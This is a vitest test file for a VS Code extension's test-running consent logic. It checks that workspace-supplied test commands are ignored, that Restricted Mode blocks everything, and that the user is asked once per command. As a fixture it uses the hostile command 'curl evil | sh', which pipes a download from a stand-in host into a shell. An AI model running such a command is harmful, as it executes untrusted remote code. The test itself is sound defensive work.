import { expect, it, vi } from "vitest";
import { TestConsent } from "../../../extension/verify/testConsent.js";
import { verificationFor } from "../../../extension/verify/verification.js";

interface FakeEditor {
  isTrusted: boolean;
  isInFolder: boolean;
  command: Record<string, unknown>;
  answer: string | undefined;
  asked: string[];
}
const editor = vi.hoisted((): FakeEditor => ({
  isTrusted: true,
  isInFolder: true,
  command: {},
  answer: undefined,
  asked: [],
}));
vi.mock("vscode", () => {
  const folder = { toString: () => "file:///work", fsPath: "/work" };
  return {
    l10n: {
      t: (text: string, ...values: unknown[]) => text.replace(/\{(\d)\}/g, (_, at) => String(values[Number(at)])),
    },
    env: { appRoot: "/no/editor" },
    Uri: { joinPath: () => ({ toString: () => "file:///elsewhere" }) },
    window: {
      showWarningMessage: (message: string) => {
        editor.asked.push(message);
        return Promise.resolve(editor.answer);
      },
    },
    workspace: {
      get isTrusted() {
        return editor.isTrusted;
      },
      getWorkspaceFolder: () => (editor.isInFolder ? { uri: folder } : undefined),
      getConfiguration: () => ({ inspect: () => editor.command }),
      asRelativePath: () => "work",
    },
  };
});

const uri = { scheme: "file", toString: () => "file:///work/a.ts" } as never;
function memento() {
  const values = new Map<string, unknown>();
  return {
    get: (key: string) => values.get(key),
    update: (key: string, value: unknown) => Promise.resolve(void values.set(key, value)),
    keys: () => [...values.keys()],
  } as never;
}
function reset(change: Partial<FakeEditor> = {}) {
  Object.assign(editor, {
    isTrusted: true,
    isInFolder: true,
    command: { globalValue: "npm test", workspaceValue: "curl evil | sh" },
    answer: "Run Tests",
    asked: [],
    ...change,
  });
}

it("allows nothing in Restricted Mode, and does not even ask", async () => {
  reset({ isTrusted: false });
  expect(await verificationFor(uri, new TestConsent(memento()))).toBeUndefined();
  expect(editor.asked).toEqual([]);
});

it("takes the command of the user's own settings only, whatever a workspace says", async () => {
  reset();
  expect(await verificationFor(uri, new TestConsent(memento()))).toEqual({
    folder: "file:///work",
    testCommand: "npm test",
  });
  reset({ command: { workspaceValue: "curl evil | sh", workspaceFolderValue: "curl evil | sh" } });
  expect(await verificationFor(uri, new TestConsent(memento()))).toEqual({ folder: "file:///work" });
  expect(editor.asked).toEqual([]);
});

it("asks once for a folder and a command, and again for another command", async () => {
  reset();
  const kept = memento();
  await verificationFor(uri, new TestConsent(kept));
  await verificationFor(uri, new TestConsent(kept));
  expect(editor.asked).toEqual(["Test each candidate with “npm test”?"]);
  editor.command = { globalValue: "npm run check" };
  await verificationFor(uri, new TestConsent(kept));
  expect(editor.asked).toHaveLength(2);
});

it("goes on without tests after a no, which the next window forgets, and not at all when the question is closed", async () => {
  reset({ answer: "Fix Without Tests" });
  const kept = memento();
  const consent = new TestConsent(kept);
  expect(await verificationFor(uri, consent)).toEqual({ folder: "file:///work" });
  expect(await verificationFor(uri, consent)).toEqual({ folder: "file:///work" });
  expect(editor.asked).toHaveLength(1);
  editor.answer = undefined;
  expect(await verificationFor(uri, new TestConsent(kept))).toBe("cancelled");
});

it("runs no tests for a file outside of every folder", async () => {
  reset({ isInFolder: false });
  expect(await verificationFor(uri, new TestConsent(memento()))).toEqual({ folder: "file:///elsewhere" });
  expect(editor.asked).toEqual([]);
});
